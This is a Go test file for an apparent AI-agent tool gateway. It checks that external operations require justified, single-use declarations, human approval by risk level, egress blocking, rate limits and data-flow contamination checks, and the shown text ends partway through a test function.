package gateway_test

import (
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"net/url"
	"slices"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"sallyport.example/flow"
	"sallyport.example/guard"
	"sallyport.example/internal/approval"
	"sallyport.example/internal/audit"
	"sallyport.example/internal/call"
	"sallyport.example/internal/catalogue"
	"sallyport.example/internal/declare"
	"sallyport.example/internal/desk"
	"sallyport.example/internal/fault"
	"sallyport.example/internal/gateway"
	"sallyport.example/internal/identity"
	"sallyport.example/internal/policy"
	"sallyport.example/internal/session"
	"sallyport.example/provenance"
)

// commands are played built-in operations: get reads what anybody may, put writes, wipe is CRITICAL and send HIGH by the operator's word.
type commands struct {
	runs atomic.Int64
	run  func(ctx context.Context, r catalogue.CommandRun) (catalogue.Brought, error)
}

func (c *commands) list() []catalogue.Command {
	one := func(name string, effect flow.Effect, level int) catalogue.Command {
		return catalogue.Command{
			Name: name, Description: "Plays " + name + ".", Parameters: json.RawMessage(`{"url":{"type":"string"},"n":{"type":"integer"}}`),
			Sensitivity: flow.External, Effect: effect, Level: level, Timeout: time.Second, Requests: true,
			Check: func(raw json.RawMessage) error {
				for name := range call.Members(raw) {
					if name != "url" && name != "n" {
						return fault.New(fault.RequestMalformed, "There is no such parameter.").At(name)
					}
				}
				if u, ok := call.Get(raw, "url"); !ok || string(u) == `""` {
					return fault.New(fault.RequestMalformed, "It is missing.").At("url")
				} else if strings.Contains(string(u), "forbidden") {
					return fault.New(fault.EgressBlocked, "The destination is not permitted.").At("url")
				}
				return nil
			},
			Writes: func(raw json.RawMessage) bool { _, ok := call.Get(raw, "n"); return ok },
			Run: func(ctx context.Context, r catalogue.CommandRun) (catalogue.Brought, error) {
				c.runs.Add(1)
				if c.run != nil {
					return c.run(ctx, r)
				}
				return catalogue.Brought{Source: "https://example.com/page", Blocks: []catalogue.Block{{Text: "the page"}}}, nil
			},
		}
	}
	return []catalogue.Command{one("get", flow.Read, 0), one("put", flow.Write, 2), one("send", flow.Read, 0), one("wipe", flow.Read, 0)}
}

// clock is the gateway's time in tests.
type clock struct {
	mu sync.Mutex
	at time.Time
}

func (c *clock) now() time.Time { c.mu.Lock(); defer c.mu.Unlock(); return c.at }
func (c *clock) advance(d time.Duration) {
	c.mu.Lock()
	defer c.mu.Unlock()
	c.at = c.at.Add(d)
}

type commWorld struct {
	*world
	cmd   *commands
	clock *clock
}

var voters = map[string]approval.Voter{
	"alice": {Person: "alice", Roles: []identity.Role{identity.Admin}},
	"bob":   {Person: "bob", Roles: []identity.Role{identity.Approver}},
	"carol": {Person: "carol", Roles: []identity.Role{identity.Approver}, Aliases: []string{"carol@example.com"}},
	"dave":  {Person: "dave", Roles: []identity.Role{identity.Viewer}},
}

func newCommWorld(t testing.TB, tweak ...func(*gateway.Options)) *commWorld {
	w := &commWorld{cmd: &commands{}, clock: &clock{at: time.Date(2026, 11, 1, 12, 0, 0, 0, time.UTC)}}
	w.world = newWorld(t, append([]func(*gateway.Options){func(o *gateway.Options) {
		o.Commands, o.Tiers, o.Clock = w.cmd.list(), gateway.Tiers(), w.clock.now
		o.Limits.CommRequestsPerMinute, o.Limits.ApprovalExpires = 100, 30*time.Minute
		o.Voter = func(p string) (approval.Voter, bool) { v, ok := voters[p]; return v, ok }
		o.Classify = func(server, tool string) catalogue.Classification {
			c := classify(server, tool)
			if server == "comm" {
				// The operator's word that would take guards away, on purpose.
				c = catalogue.Classification{Output: provenance.TrustedOutput, Flow: flow.Spec{Sensitivity: flow.External, Effect: flow.Read}}
				switch tool {
				case "send":
					c.RiskFloor = policy.High
				case "wipe":
					c.RiskFloor = policy.Critical
				}
			}
			return c
		}
	}}, tweak...)...)
	return w
}

const because = `"justification":{"user_request":"What do widgets cost in 2026?","missing_knowledge":"current widget prices","expected_use":"cite them in the summary"}`

// open opens a session for worker, who may read and write comm.*.
func (w *commWorld) open(agentID, requester, request string) identity.Principal {
	w.t.Helper()
	s, _, err := w.g.OpenSession(w.t.Context(), identity.Principal{Kind: identity.Host, ID: "ci"}, gateway.OpenRequest{Agent: agentID, UserRequest: request, Requester: requester})
	if err != nil {
		w.t.Fatal(err)
	}
	return identity.Principal{Kind: identity.Session, ID: s.ID, Agent: agentID}
}

func (w *commWorld) do(p identity.Principal, tool, arguments, declaration string) gateway.Answer {
	return w.g.Call(w.t.Context(), gateway.Request{Principal: p, Method: "tools/call", Tool: tool, Arguments: json.RawMessage(arguments), Declaration: declaration, Door: "mcp"})
}

func (w *commWorld) declare(p identity.Principal, operation, parameters string) (gateway.DeclareAnswer, error) {
	w.t.Helper()
	a, err := w.g.Declare(w.t.Context(), p, "", json.RawMessage(fmt.Sprintf(`{"operation":%q,"parameters":%s,%s,"phase":"execution","session_id":%q}`, operation, parameters, because, p.ID)))
	d, _ := a.(gateway.DeclareAnswer)
	return d, err
}

func (w *commWorld) mustDeclare(p identity.Principal, operation, parameters string, want fault.Decision) gateway.DeclareAnswer {
	w.t.Helper()
	d, err := w.declare(p, operation, parameters)
	if err != nil || d.Verdict.Decision != want {
		w.t.Fatalf("declared: %+v, %v", d, err)
	}
	return d
}

func (w *commWorld) respond(person string, id *string, decision approval.Decision, reason string) error {
	w.t.Helper()
	q, err := w.g.Desk().Question(w.t.Context(), *id)
	if err != nil {
		w.t.Fatal(err)
	}
	_, err = w.g.Desk().Respond(w.t.Context(), voters[person], desk.Response{Approval: *id, Digest: q.Digest, Decision: decision, Reason: reason})
	return err
}

func (w *commWorld) mustAsk(a gateway.Answer) string {
	w.t.Helper()
	if a.Verdict.Decision != fault.Ask || a.Verdict.Code != fault.ApprovalRequired || a.Verdict.ApprovalID == nil || a.Result != nil {
		w.t.Fatalf("not asked: %+v", a.Verdict)
	}
	return *a.Verdict.ApprovalID
}

const getPage = `{"url":"https://example.com/page"}`

// Red line "unauthenticated external operations" and checklist "declaration format includes operation, parameters, justification".
func TestExternalOperationNeedsADeclaration(t *testing.T) {
	w := newCommWorld(t)
	p := w.open("worker", "erin", "What do widgets cost in 2026?")
	a := w.mustRefuse(w.do(p, "comm_get", getPage, ""), fault.DeclarationMissing)
	if len(a.Verdict.Remedies) == 0 || a.Verdict.Remedies[0].Kind != "declare" {
		t.Errorf("no way out: %+v", a.Verdict.Remedies)
	}
	if w.cmd.runs.Load() != 0 {
		t.Fatal("it ran")
	}
	a = w.mustPermit(w.do(p, "comm_get", `{"url":"https://example.com/page",`+because+`}`, ""))
	es := w.entriesOf(a.CallID)
	var detail struct {
		Declaration struct {
			Digest        string
			Justification declare.Justification
		}
	}
	if len(es) != 2 || json.Unmarshal(es[0].Detail, &detail) != nil || len(detail.Declaration.Digest) != 64 ||
		detail.Declaration.Justification.UserRequest != "What do widgets cost in 2026?" {
		t.Fatalf("the intent does not say what was declared: %s", es[0].Detail)
	}
	if string(es[0].Arguments.Shown) != getPage {
		t.Errorf("the arguments on record are %s", es[0].Arguments.Shown)
	}
	attribution, err := w.o.Issuer.Parse(a.Metadata)
	if err != nil || attribution.Declaration() != detail.Declaration.Digest || attribution.String() != "CommunicationOS (get) in session "+p.ID ||
		attribution.Source() != "https://example.com/page" || attribution.TrustLevel() != "UNTRUSTED_EXTERNAL_CONTENT" {
		t.Errorf("attribution %s, %v", a.Metadata, err)
	}
	var result struct{ Content []struct{ Text string } }
	if err := json.Unmarshal(a.Result, &result); err != nil || len(result.Content) != 1 || !guard.IsWrapped(result.Content[0].Text) {
		t.Errorf("the operator's word took the fence away: %s", a.Result)
	}
	s, err := w.g.SessionByID(t.Context(), p.ID)
	if err != nil || !s.Holds(flow.Untrusted) {
		t.Errorf("the session holds %v", s.Labels)
	}
}

func TestDeclaredCallsAreCheckedFieldByField(t *testing.T) {
	w := newCommWorld(t)
	p := w.open("worker", "erin", "What do widgets cost in 2026?")
	for name, c := range map[string]struct {
		arguments string
		code      fault.Code
		field     string
	}{
		"vague":                {`{"url":"https://example.com/","justification":{"user_request":"What do widgets cost?","missing_knowledge":"stuff","expected_use":"cite prices"}}`, fault.DeclarationInvalid, "justification.missing_knowledge"},
		"not what was asked":   {`{"url":"https://example.com/","justification":{"user_request":"Delete every invoice","missing_knowledge":"invoice numbers","expected_use":"list numbers"}}`, fault.DeclarationInvalid, "justification.user_request"},
		"missing field":        {`{"url":"https://example.com/","justification":{"user_request":"What do widgets cost?","expected_use":"cite prices"}}`, fault.DeclarationInvalid, "justification.missing_knowledge"},
		"unknown field":        {`{"url":"https://example.com/","justification":{"user_request":"What do widgets cost?","missing_knowledge":"widget prices","expected_use":"cite prices","approved":true}}`, fault.DeclarationInvalid, "justification.approved"},
		"no object":            {`{"url":"https://example.com/","justification":"because"}`, fault.DeclarationInvalid, "justification"},
		"unknown parameter":    {`{"url":"https://example.com/","follow":true,` + because + `}`, fault.RequestMalformed, "follow"},
		"missing parameter":    {`{` + because + `}`, fault.RequestMalformed, "url"},
		"forbidden parameter":  {`{"url":"https://forbidden.example/",` + because + `}`, fault.EgressBlocked, "url"},
		"no such declaration":  {`{"declaration_id":"decl_none"}`, fault.DeclarationInvalid, "declaration_id"},
		"both":                 {`{"declaration_id":"decl_none",` + because + `}`, fault.DeclarationInvalid, "justification"},
		"declaration a number": {`{"declaration_id":7}`, fault.DeclarationInvalid, "declaration_id"},
	} {
		t.Run(name, func(t *testing.T) {
			w.t = t
			a := w.mustRefuse(w.do(p, "comm_get", c.arguments, ""), c.code)
			if !slices.ContainsFunc(a.Verdict.Because, func(b fault.Because) bool { return b.Detail == c.field }) {
				t.Errorf("no word of %s: %+v", c.field, a.Verdict.Because)
			}
		})
	}
	w.t = t
	if n := w.cmd.runs.Load(); n != 0 {
		t.Errorf("%d ran", n)
	}
}

// Red line "planning-phase external operations".
func TestPlanningBlocksDeclaredOperations(t *testing.T) {
	w := newCommWorld(t)
	p := w.open("planner", "erin", "What do widgets cost in 2026?")
	w.mustRefuse(w.do(p, "comm_get", `{"url":"https://example.com/page",`+because+`}`, ""), fault.PhaseBlocked)
	d := w.mustDeclare(p, "comm.get", getPage, fault.Permit) // declaring is what planning is for
	w.mustRefuse(w.do(p, "comm_get", "{}", d.DeclarationID), fault.PhaseBlocked)
	if n := w.cmd.runs.Load(); n != 0 {
		t.Errorf("%d ran", n)
	}
	if _, err := w.g.SetPhase(t.Context(), p.ID, session.Execution, "person:alice", ""); err != nil {
		t.Fatal(err)
	}
	w.mustPermit(w.do(p, "comm_get", "{}", d.DeclarationID))
}

func TestDeclarationIsForOneCallOfOneSession(t *testing.T) {
	w := newCommWorld(t)
	p := w.open("worker", "erin", "What do widgets cost in 2026?")
	other := w.open("worker", "erin", "What do widgets cost in 2026?")
	d := w.mustDeclare(p, "comm.get", getPage, fault.Permit)
	if d.State != declare.Approved || len(d.Digest) != 64 || d.ApprovalID != "" {
		t.Fatalf("%+v", d)
	}
	w.mustRefuse(w.do(other, "comm_get", "{}", d.DeclarationID), fault.DeclarationInvalid)
	w.mustRefuse(w.do(p, "comm_send", "{}", d.DeclarationID), fault.DeclarationInvalid)
	w.mustRefuse(w.do(p, "comm_get", `{"url":"https://example.com/other"}`, d.DeclarationID), fault.ApprovalMismatch)
	a := w.mustPermit(w.do(p, "comm_get", `{"declaration_id":"`+d.DeclarationID+`"}`, ""))
	if at, err := w.o.Issuer.Parse(a.Metadata); err != nil || at.Declaration() != d.Digest {
		t.Errorf("the result points to %s, not to what was approved (%v)", at.Declaration(), err)
	}
	if b := w.do(p, "comm_get", getPage, d.DeclarationID); b.Verdict.Decision == fault.Permit {
		t.Error("it was spent twice")
	}
	if n := w.cmd.runs.Load(); n != 1 {
		t.Errorf("%d ran", n)
	}
	if got, err := w.g.Declaration(t.Context(), p, "", d.DeclarationID); err != nil || got.State != declare.Spent || got.SpentBy != a.CallID {
		t.Errorf("%+v, %v", got, err)
	}
	if _, err := w.g.Declaration(t.Context(), other, "", d.DeclarationID); !fault.Is(err, fault.NotFound) {
		t.Errorf("another session sees it: %v", err)
	}
	// It is gone with the time, too.
	d = w.mustDeclare(p, "comm.get", getPage, fault.Permit)
	w.clock.advance(31 * time.Minute)
	w.mustRefuse(w.do(p, "comm_get", "{}", d.DeclarationID), fault.ApprovalExpired)
}

func TestDeclarationIsOfOneDefinition(t *testing.T) {
	w := newCommWorld(t)
	p := w.open("worker", "erin", "What do widgets cost in 2026?")
	d := w.mustDeclare(p, "comm.get", getPage, fault.Permit)
	w.end()
	w.o.Commands = slices.Clone(w.o.Commands)
	w.o.Commands[0].Description = "Does something else."
	w.start()
	w.mustRefuse(w.do(p, "comm_get", "{}", d.DeclarationID), fault.DeclarationInvalid)
}

func TestOneDeclarationIsSpentOnceUnderRace(t *testing.T) {
	w := newCommWorld(t, func(o *gateway.Options) { o.Limits.CommRequestsPerMinute = 1000 })
	p := w.open("worker", "erin", "What do widgets cost in 2026?")
	for range 5 {
		before := w.cmd.runs.Load()
		d := w.mustDeclare(p, "comm.get", getPage, fault.Permit)
		var wg sync.WaitGroup
		var permitted atomic.Int64
		for range 40 {
			wg.Go(func() {
				if w.do(p, "comm_get", "{}", d.DeclarationID).Verdict.Decision == fault.Permit {
					permitted.Add(1)
				}
			})
		}
		wg.Wait()
		if n := w.cmd.runs.Load() - before; n != 1 || permitted.Load() != 1 {
			t.Fatalf("%d ran and %d were permitted", n, permitted.Load())
		}
	}
}

func TestInvalidDeclarationsAreRefusedWithEveryField(t *testing.T) {
	w := newCommWorld(t)
	p := w.open("worker", "erin", "What do widgets cost in 2026?")
	for name, c := range map[string]struct {
		body   string
		fields []string
	}{
		"everything wrong": {`{"operation":"comm.none","parameters":[],"justification":{"user_request":""},"phase":"planning","session_id":"sess_other","extra":1}`,
			[]string{"extra", "parameters", "justification.missing_knowledge", "phase", "session_id", "operation"}},
		"another session":  {fmt.Sprintf(`{"operation":"comm.get","parameters":%s,%s,"phase":"execution","session_id":"sess_other"}`, getPage, because), []string{"session_id"}},
		"planning":         {fmt.Sprintf(`{"operation":"comm.get","parameters":%s,%s,"phase":"planning","session_id":%q}`, getPage, because, p.ID), []string{"phase"}},
		"unknown":          {fmt.Sprintf(`{"operation":"comm.none","parameters":%s,%s,"phase":"execution","session_id":%q}`, getPage, because, p.ID), []string{"operation"}},
		"no justification": {fmt.Sprintf(`{"operation":"comm.get","parameters":%s,"phase":"execution","session_id":%q}`, getPage, p.ID), []string{"justification"}},
		"its own word":     {fmt.Sprintf(`{"operation":"comm.get","parameters":{"follow":1},%s,"phase":"execution","session_id":%q}`, because, p.ID), []string{"parameters.follow"}},
	} {
		t.Run(name, func(t *testing.T) {
			_, err := w.g.Declare(t.Context(), p, "", json.RawMessage(c.body))
			var u *declare.Invalid
			if !errors.As(err, &u) || !fault.Is(err, fault.DeclarationInvalid) {
				t.Fatalf("%v", err)
			}
			for _, f := range c.fields {
				if !slices.ContainsFunc(u.Problems, func(p declare.Problem) bool { return p.Field == f && p.Problem != "" }) {
					t.Errorf("no word of %s: %+v", f, u.Problems)
				}
			}
		})
	}
	refused := 0
	for _, e := range w.entries() {
		if e.Action == "declare" && e.Decision == "deny" {
			refused++
		}
	}
	if refused != 6 {
		t.Errorf("%d refused declarations on record", refused)
	}
}

func TestDeclaringJudgesWhatTheCallWouldBeJudgedBy(t *testing.T) {
	w := newCommWorld(t)
	p := w.open("worker", "erin", "What do widgets cost in 2026?")
	d := w.mustDeclare(p, "bank.transfer", `{"to":"x"}`, fault.Deny)
	if d.Verdict.Code != fault.PermissionDenied || d.State != declare.Rejected {
		t.Errorf("%+v", d)
	}
	if d := w.mustDeclare(p, "comm.get", `{"url":"https://forbidden.example/"}`, fault.Deny); d.Verdict.Code != fault.EgressBlocked {
		t.Errorf("%+v", d)
	}
	w.mustPermit(w.do(p, "search_email", `{"q":"x"}`, ""))
	d = w.mustDeclare(p, "comm.get", getPage, fault.Deny)
	if d.Verdict.Code != fault.FlowContaminated {
		t.Errorf("%+v", d)
	}
	w.mustRefuse(w.do(p, "comm_get", "{}", d.DeclarationID), fault.ApprovalRejected)
}

func TestRiskAsksAPersonWhoseAnswerIsGoodForOneCall(t *testing.T) {
	w := newCommWorld(t)
	p := w.open("worker", "erin", "What do widgets cost in 2026?")
	arguments := `{"url":"https://example.com/page",` + because + `}`
	id := w.mustAsk(w.do(p, "comm_send", arguments, ""))
	if again := w.mustAsk(w.do(p, "comm_send", arguments, "")); again != id {
		t.Errorf("the same call asked twice: %s and %s", id, again)
	}
	q, err := w.g.Desk().Question(t.Context(), id)
	if err != nil || q.State != approval.Pending || q.Risk != "HIGH" || q.Operation != "comm.send" || string(q.Arguments) != getPage || q.Needed != 1 ||
		q.Session != p.ID || q.Requester != "erin" || len(q.Reasons) != 2 || q.Reasons[0].Stage != "risk" || q.Reasons[1].Code != policy.ReasonOperator || !strings.Contains(string(q.Justification), "widget") {
		t.Fatalf("%+v, %v", q, err)
	}
	for who, want := range map[string]fault.Code{"dave": fault.RoleMissing} {
		if err := w.respond(who, &id, approval.Approve, ""); !fault.Is(err, want) {
			t.Errorf("%s: %v", who, err)
		}
	}
	if _, err := w.g.Desk().Respond(t.Context(), voters["bob"], desk.Response{Approval: id, Digest: strings.Repeat("0", 64), Decision: approval.Approve}); !fault.Is(err, fault.ApprovalMismatch) {
		t.Errorf("another digest: %v", err)
	}
	if err := w.respond("bob", &id, approval.Approve, "go on"); err != nil {
		t.Fatal(err)
	}
	if n := w.cmd.runs.Load(); n != 0 {
		t.Fatalf("%d ran before the call", n)
	}
	if a := w.g.Call(t.Context(), gateway.Request{Principal: p, Method: "tools/call", Tool: "comm_send", Arguments: json.RawMessage(arguments), DryRun: true}); a.Verdict.Decision != fault.Permit {
		t.Errorf("check says %+v", a.Verdict)
	}
	a := w.mustPermit(w.do(p, "comm_send", arguments, ""))
	es := w.entriesOf(a.CallID)
	if es[0].Risk != "HIGH" || !slices.Equal(es[0].Approvers, []string{"bob"}) {
		t.Errorf("the intent names %v, risk %s", es[0].Approvers, es[0].Risk)
	}
	if next := w.mustAsk(w.do(p, "comm_send", arguments, "")); next == id {
		t.Error("a spent approval was found again")
	}
	if n := w.cmd.runs.Load(); n != 1 {
		t.Errorf("%d ran", n)
	}
}

func TestRejectionReachesTheAgent(t *testing.T) {
	w := newCommWorld(t)
	p := w.open("worker", "erin", "What do widgets cost in 2026?")
	arguments := `{"url":"https://example.com/page",` + because + `}`
	id := w.mustAsk(w.do(p, "comm_send", arguments, ""))
	if err := w.respond("bob", &id, approval.Reject, "use the price list instead"); err != nil {
		t.Fatal(err)
	}
	a := w.mustRefuse(w.do(p, "comm_send", arguments, ""), fault.ApprovalRejected)
	if !strings.Contains(a.Verdict.Reason, "use the price list instead") {
		t.Errorf("the reason is lost: %q", a.Verdict.Reason)
	}
}

func TestCriticalNeedsTwoPeopleAndNeverTheRequester(t *testing.T) {
	w := newCommWorld(t)
	p := w.open("worker", "carol@example.com"[:5], "What do widgets cost in 2026?") // carol, by another of her names
	d := w.mustDeclare(p, "comm.wipe", getPage, fault.Ask)
	if d.State != declare.Pending || d.ApprovalID == "" {
		t.Fatalf("%+v", d)
	}
	if err := w.respond("carol", &d.ApprovalID, approval.Approve, ""); !fault.Is(err, fault.RoleMissing) {
		t.Errorf("who asked answered: %v", err)
	}
	if err := w.respond("bob", &d.ApprovalID, approval.Approve, ""); err != nil {
		t.Fatal(err)
	}
	if err := w.respond("bob", &d.ApprovalID, approval.Approve, ""); !fault.Is(err, fault.Conflict) {
		t.Errorf("one person voted twice: %v", err)
	}
	w.mustAsk(w.do(p, "comm_wipe", "{}", d.DeclarationID))
	if err := w.respond("alice", &d.ApprovalID, approval.Approve, ""); err != nil {
		t.Fatal(err)
	}
	a := w.mustPermit(w.do(p, "comm_wipe", "{}", d.DeclarationID))
	if es := w.entriesOf(a.CallID); !slices.Equal(es[0].Approvers, []string{"bob", "alice"}) {
		t.Errorf("approvers %v", es[0].Approvers)
	}
	w.mustRefuse(w.do(p, "comm_wipe", "{}", d.DeclarationID), fault.DeclarationInvalid)
	if q, err := w.g.Desk().Question(t.Context(), d.ApprovalID); err != nil || q.State != approval.Spent || q.SpentBy != a.CallID {
		t.Errorf("%+v, %v", q, err)
	}
}

// The approval is a fact, not a permission: what changed since is judged.
func TestApprovedCallIsJudgedAgain(t *testing.T) {
	w := newCommWorld(t)
	p := w.open("worker", "erin", "What do widgets cost in 2026?")
	arguments := `{"url":"https://example.com/page",` + because + `}`
	id := w.mustAsk(w.do(p, "comm_send", arguments, ""))
	if err := w.respond("bob", &id, approval.Approve, ""); err != nil {
		t.Fatal(err)
	}
	w.mustPermit(w.do(p, "search_email", `{"q":"x"}`, "")) // the session reads something internal in between
	w.mustRefuse(w.do(p, "comm_send", arguments, ""), fault.FlowContaminated)
	if q, err := w.g.Desk().Question(t.Context(), id); err != nil || q.State != approval.Approved {
		t.Errorf("a refused call spent the approval: %+v, %v", q.State, err)
	}
	w.clock.advance(31 * time.Minute)
	if _, err := w.g.Release(t.Context(), p.ID, []flow.Label{"internal"}, "person:alice", "test"); err != nil {
		t.Fatal(err)
	}
	if next := w.mustAsk(w.do(p, "comm_send", arguments, "")); next == id {
		t.Error("an expired approval was found")
	}
	// Who approved has to be one who may, still.
	next := w.mustAsk(w.do(p, "comm_send", arguments, ""))
	if err := w.respond("bob", &next, approval.Approve, ""); err != nil {
		t.Fatal(err)
	}
	saved := voters["bob"]
	voters["bob"] = approval.Voter{Person: "bob"}
	w.mustAsk(w.do(p, "comm_send", arguments, ""))
	voters["bob"] = saved
	w.mustPermit(w.do(p, "comm_send", arguments, ""))
}

func TestSimilarQuestionsAreAnsweredTogether(t *testing.T) {
	w := newCommWorld(t)
	p := w.open("worker", "erin", "What do widgets cost in 2026?")
	var answers []desk.Response
	ask := func(operation, parameters string) desk.Response {
		d := w.mustDeclare(p, operation, parameters, fault.Ask)
		q, err := w.g.Desk().Question(t.Context(), d.ApprovalID)
		if err != nil {
			t.Fatal(err)
		}
		return desk.Response{Approval: q.ID, Digest: q.Digest, Decision: approval.Approve}
	}
	var ids []string
	for i := range 3 {
		r := ask("comm.send", fmt.Sprintf(`{"url":"https://example.com/%d"}`, i))
		answers = append(answers, r)
		ids = append(ids, r.Approval)
	}
	elsewhere := ask("comm.send", `{"url":"https://elsewhere.example/"}`)
	if _, err := w.g.Desk().RespondTogether(t.Context(), voters["bob"], append(slices.Clone(answers), elsewhere)); !fault.Is(err, fault.Conflict) {
		t.Fatalf("a batch of different destinations: %v", err)
	}
	critical := ask("comm.wipe", getPage)
	if _, err := w.g.Desk().RespondTogether(t.Context(), voters["bob"], []desk.Response{critical}); !fault.Is(err, fault.Conflict) {
		t.Fatalf("a batch of what needs two: %v", err)
	}
	answers[1].Digest = strings.Repeat("0", 64) // not what was looked at
	all, err := w.g.Desk().RespondTogether(t.Context(), voters["bob"], answers)
	if err != nil || len(all) != 3 {
		t.Fatal(all, err)
	}
	for i, b := range all {
		if (b.Code == fault.ApprovalMismatch) != (i == 1) || (b.Question != nil) != (i != 1) {
			t.Errorf("%d: %+v", i, b)
		}
	}
	q, err := w.g.Desk().Questions(t.Context(), approval.Approved, p.ID, "", 10)
	if err != nil || len(q) != 2 || q[0].ID != ids[2] || q[1].ID != ids[0] {
		t.Errorf("%+v, %v", q, err)
	}
}

func TestTrustTiers(t *testing.T) {
	for tier, c := range map[string]struct {
		asks  bool
		limit int
	}{"": {false, 100}, "standard": {false, 100}, "restricted": {true, 5}, "trusted": {false, 30}, "slow": {false, 2}, "nobody's": {true, 5}} {
		t.Run(tier, func(t *testing.T) {
			w := newCommWorld(t, func(o *gateway.Options) {
				d, _ := o.Agents.Get("worker")
				d.TrustTier = tier
				o.Tiers["slow"] = gateway.Tier{CommRequestsPerMinute: 2}
			})
			p := w.open("worker", "erin", "What do widgets cost in 2026?")
			a := w.do(p, "comm_get", `{"url":"https://example.com/page",`+because+`}`, "")
			if (a.Verdict.Decision == fault.Ask) != c.asks {
				t.Errorf("%+v", a.Verdict)
			}
			if c.asks { // what is asked about is not requested
				return
			}
			n := 1
			for ; n < 200; n++ {
				if a = w.do(p, "comm_get", `{"url":"https://example.com/page",`+because+`}`, ""); a.Verdict.Code == fault.LimitRate {
					break
				}
			}
			if n != c.limit {
				t.Errorf("%d requests in a minute, want %d", n, c.limit)
			}
			w.clock.advance(time.Minute)
			if a = w.do(p, "comm_get", `{"url":"https://example.com/page",`+because+`}`, ""); a.Verdict.Code == fault.LimitRate {
				t.Error("still limited a minute later")
			}
		})
	}
}

// A read that its parameters make a write needs the permission to write.
func TestWritesByParameter(t *testing.T) {
	w := newCommWorld(t)
	p := w.open("planner", "erin", "What do widgets cost in 2026?") // may read comm.get only
	if _, err := w.g.SetPhase(t.Context(), p.ID, session.Execution, "person:alice", ""); err != nil {
		t.Fatal(err)
	}
	w.mustPermit(w.do(p, "comm_get", `{"url":"https://example.com/page",`+because+`}`, ""))
	w.mustRefuse(w.do(p, "comm_get", `{"n":1,"url":"https://example.com/page",`+because+`}`, ""), fault.PermissionDenied)
	w.mustRefuse(w.do(p, "comm_put", `{"url":"https://example.com/page",`+because+`}`, ""), fault.PermissionDenied)
}

func TestPartialResultsAreDiscarded(t *testing.T) {
	w := newCommWorld(t)
	w.cmd.run = func(ctx context.Context, _ catalogue.CommandRun) (catalogue.Brought, error) {
		<-ctx.Done()
		return catalogue.Brought{Source: "https://example.com/", Blocks: []catalogue.Block{{Text: "half of the page"}}}, nil
	}
	p := w.open("worker", "erin", "What do widgets cost in 2026?")
	a := w.mustRefuse(w.do(p, "comm_get", `{"url":"https://example.com/page",`+because+`}`, ""), fault.TimeExceeded)
	if es := w.entriesOf(a.CallID); len(es) != 2 || es[1].Decision != "error" || es[1].Result != nil {
		t.Errorf("%+v", es)
	}
}

// A step of the sealed plan that fixes the arguments is a declaration; one that leaves them open is not.
func TestSealedPlanDeclares(t *testing.T) {
	w := newCommWorld(t)
	p := w.open("planner", "erin", "What do widgets cost in 2026?")
	plan := `{"steps":[{"tool":"comm_get","arguments":` + getPage + `,"justification":"widget prices are on this page"},{"tool":"comm_get","justification":"supplier pages with newer widget prices"}]}`
	a, err := w.g.SubmitPlan(t.Context(), p, "", json.RawMessage(plan))
	if err != nil {
		t.Fatal(err)
	}
	if got := a.(gateway.PlanAnswer); got.State != session.PlanApproved {
		t.Fatalf("%+v", got)
	}
	answer := w.mustPermit(w.do(p, "comm_get", getPage, ""))
	if at, err := w.o.Issuer.Parse(answer.Metadata); err != nil || at.Declaration() != a.(gateway.PlanAnswer).Digest {
		t.Errorf("the result points to %s (%v)", at.Declaration(), err)
	}
	w.mustRefuse(w.do(p, "comm_get", `{"url":"https://example.com/linked"}`, ""), fault.DeclarationMissing)
}

// Delivered text keeps its labels when it comes back as an argument, in whatever session (AT-3, FL-2).
func TestArgumentsCarryLabels(t *testing.T) {
	w := newCommWorld(t)
	w.up.answers["shy.read"] = nil
	fence, err := guard.Fence{Contamination: []string{"internal"}}.Wrap("the salaries", "mail.search_email")
	if err != nil {
		t.Fatal(err)
	}
	attribution, err := w.o.Issuer.Attribute(guard.Source{Operation: "mail.search_email", Session: "sess_other", Source: "mail.search_email", CallID: "call_other", At: w.clock.now(), Content: []byte("x")})
	if err != nil {
		t.Fatal(err)
	}
	metadata, _ := json.Marshal(attribution)
	quoted, _ := json.Marshal("so it says:\n" + fence.ForModel())
	for name, arguments := range map[string]string{
		"fenced":     fmt.Sprintf(`{"text":%s}`, quoted),
		"attributed": fmt.Sprintf(`{"text":"salaries","metadata":%s}`, metadata),
	} {
		t.Run(name, func(t *testing.T) {
			w.t = t
			p := w.open("worker", "erin", "x")
			sent := w.up.count()
			a := w.mustRefuse(w.do(p, "slack_post", arguments, ""), fault.FlowContaminated)
			if w.up.count() != sent {
				t.Error("it went out")
			}
			if !slices.ContainsFunc(a.Verdict.Because, func(b fault.Because) bool { return strings.Contains(b.Detail, "mail.search_email") }) {
				t.Errorf("no word of where it is from: %+v", a.Verdict.Because)
			}
			s, err := w.g.SessionByID(t.Context(), p.ID)
			if err != nil || !s.Holds("internal") {
				t.Errorf("the session holds %v, %v", s.Labels, err)
			}
			w.mustRefuse(w.do(p, "slack_post", `{"text":"hello"}`, ""), fault.FlowContaminated) // and it stays
		})
	}
	w.t = t
	p := w.open("worker", "erin", "x")
	a := w.mustPermit(w.do(p, "think", fmt.Sprintf(`{"text":%s}`, quoted), "")) // no sink
	es := w.entriesOf(a.CallID)
	if !slices.Equal(es[0].Labels, []string{"internal", "untrusted"}) || !strings.Contains(string(es[0].Detail), "mail.search_email") {
		t.Errorf("the intent does not say what came along: %v %s", es[0].Labels, es[0].Detail)
	}
}

func TestQuestionsOfOneSessionAreBounded(t *testing.T) {
	w := newCommWorld(t, func(o *gateway.Options) { o.Limits.CommRequestsPerMinute = 1000 })
	p := w.open("worker", "erin", "What do widgets cost in 2026?")
	var a gateway.Answer
	n := 0
	for ; n < 150; n++ {
		if a = w.do(p, "comm_send", fmt.Sprintf(`{"url":"https://example.com/%d",%s}`, n, because), ""); a.Verdict.Decision != fault.Ask {
			break
		}
	}
	if n != 100 || a.Verdict.Code != fault.LimitQuota {
		t.Errorf("%d questions, then %+v", n, a.Verdict)
	}
}

func TestCommandThatPanics(t *testing.T) {
	w := newCommWorld(t)
	w.cmd.run = func(context.Context, catalogue.CommandRun) (catalogue.Brought, error) { panic("boom") }
	p := w.open("worker", "erin", "What do widgets cost in 2026?")
	a := w.mustRefuse(w.do(p, "comm_get", `{"url":"https://example.com/page",`+because+`}`, ""), fault.Internal)
	es := w.entriesOf(a.CallID)
	for end := time.Now().Add(30 * time.Second); len(es) < 2 && time.Now().Before(end); time.Sleep(5 * time.Millisecond) { // the outcome is written behind the answer
		es = w.entriesOf(a.CallID)
	}
